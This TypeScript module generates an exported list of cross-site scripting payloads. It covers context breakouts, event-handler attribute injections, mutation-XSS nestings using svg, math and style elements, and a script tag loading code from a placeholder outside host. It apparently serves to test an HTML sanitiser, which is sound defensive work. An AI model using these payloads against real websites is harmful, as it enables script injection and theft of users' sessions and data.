import { code, host } from './marks.ts';

const image = `<img src=x onerror=${code}>`;
const script = `<script>${code}</script>`;
const hidden = `&lt;img src=x onerror=${code}&gt;`;

/** Texts that break out of their context. */
const ends = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '"/>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</title>',
  '</style>',
  '</script>',
  '</ScRiPt\t>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</noembed>',
  '</noframes>',
  '</xmp>',
  '</select>',
  '</svg>',
  '</math>',
  '</p></div></section></main>',
  '</h2></span></li></ul>',
  '</td></tr></table>',
  '"}]}</script>',
  "'});",
];
const follow = [
  image,
  script,
  `<svg/onload=${code}>`,
  `<a href=javascript:${code}>x</a>`,
  `<iframe srcdoc="<script>${code}</script>">`,
  `<script src=//${host}/§></script>`,
];

/** Attributes that a text in an attribute could add to its element. */
const added = [
  'onmouseover',
  'onfocus',
  'onclick',
  'onload',
  'onerror',
  'onanimationstart',
].flatMap((event) =>
  ['"', "'", '`', '&quot;', '\u201d', '\n'].flatMap((quote) => [
    `${quote} ${event}=${quote}${code}`,
    `${quote}${event}=${code} autofocus tabindex=0 x=${quote}`,
    `x${quote} style=${quote}display:block${quote} ${event}=${code}//`,
  ]),
);

/**
 * Elements with content that parsers treat differently: as text, as another language, or ignored.
 */
const wrapping = [
  ['<noscript>', '</noscript>'],
  ['<template>', '</template>'],
  ['<style>', '</style>'],
  ['<title>', '</title>'],
  ['<textarea>', '</textarea>'],
  ['<xmp>', '</xmp>'],
  ['<iframe>', '</iframe>'],
  ['<noembed>', '</noembed>'],
  ['<select><option>', '</option></select>'],
  ['<svg>', '</svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><mtext><table><mglyph><style>', '</style></mglyph></table></mtext></math>'],
  ['<svg></p><style>', '</style></svg>'],
  ['<form><math><mtext></form><form><mglyph><style>', '</style></mglyph></form></mtext></math>'],
  ['<table><caption><svg>', '</svg></caption></table>'],
  ['<div><p><a><a>', '</a></a></p></div>'],
] as const;
const inside = [
  () => image,
  () => script,
  (end: string) => `<a title="${end}${image}">x</a>`,
  (end: string) => `<!--${end}${image}-->`,
  (end: string) => `<![CDATA[${end}${image}]]>`,
  (end: string) => `<a id="--><!--${end}${image}">`,
  () => `<a title="${hidden}">x</a>`,
  () => `<!--</style>${image}`,
  () => `<style><!--</style>${image}-->`,
  () => `<set attributeName=href to=javascript:${code} /><a href=#>x</a>`,
  () => `<animate attributeName=href values=javascript:${code} /><a href=#>x</a>`,
  () => `<use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/>`,
];

/** Markup that is parsed differently where it is sanitised and where it is rendered. */
export const nestings: readonly string[] = [
  ...ends.flatMap((end) => follow.map((rest) => end + rest)),
  ...added,
  ...wrapping.flatMap(([open, close]) => inside.map((fill) => open + fill(close) + close)),
];
